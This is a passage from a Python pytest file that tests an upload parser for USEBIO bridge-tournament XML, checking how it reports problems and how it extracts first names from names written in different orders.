        "<USEBIO Version='1.2'><EVENT><DATE>{0}</DATE><PARTICIPANTS>"
        "<PAIR><PAIR_NUMBER>{1}</PAIR_NUMBER><PERCENTAGE>{2}</PERCENTAGE></PAIR>"
        "<PAIR><PAIR_NUMBER>2</PAIR_NUMBER></PAIR></PARTICIPANTS>"
        "<BOARD><BOARD_NUMBER>{3}</BOARD_NUMBER><TRAVELLER_LINE>"
        "<NS_PAIR_NUMBER>{1}</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2</EW_PAIR_NUMBER>"
        "<CONTRACT>{4}</CONTRACT><PLAYED_BY>{5}</PLAYED_BY><TRICKS>{6}</TRICKS>"
        "<SCORE>{7}</SCORE><NS_MATCH_POINTS>{8}</NS_MATCH_POINTS></TRAVELLER_LINE></BOARD>"
        "</EVENT><HANDSET><BOARD><BOARD_NUMBER>{9}</BOARD_NUMBER>"
        "<HAND><DIRECTION>{10}</DIRECTION><SPADES>{11}</SPADES></HAND></BOARD></HANDSET></USEBIO>"
    ).format(*v)
    upload = read_usebio(data)
    assert isinstance(upload, Upload)
    assert all(p.message for p in upload.problems)


@pytest.mark.parametrize(
    ("written", "first"),
    [
        ("Emma Hansen", "Emma"),
        ("Hansen, Emma", "Emma"),
        ("Hansen,Emma Marie", "Emma"),
        ("  Ola  ", "Ola"),
        ("Hansen,", ""),
        ("", ""),
    ],
)
def test_only_the_first_name_is_taken_whichever_order_the_file_writes(
    written: str, first: str
) -> None:
    from scoring.upload import first_name

    assert first_name(written) == first
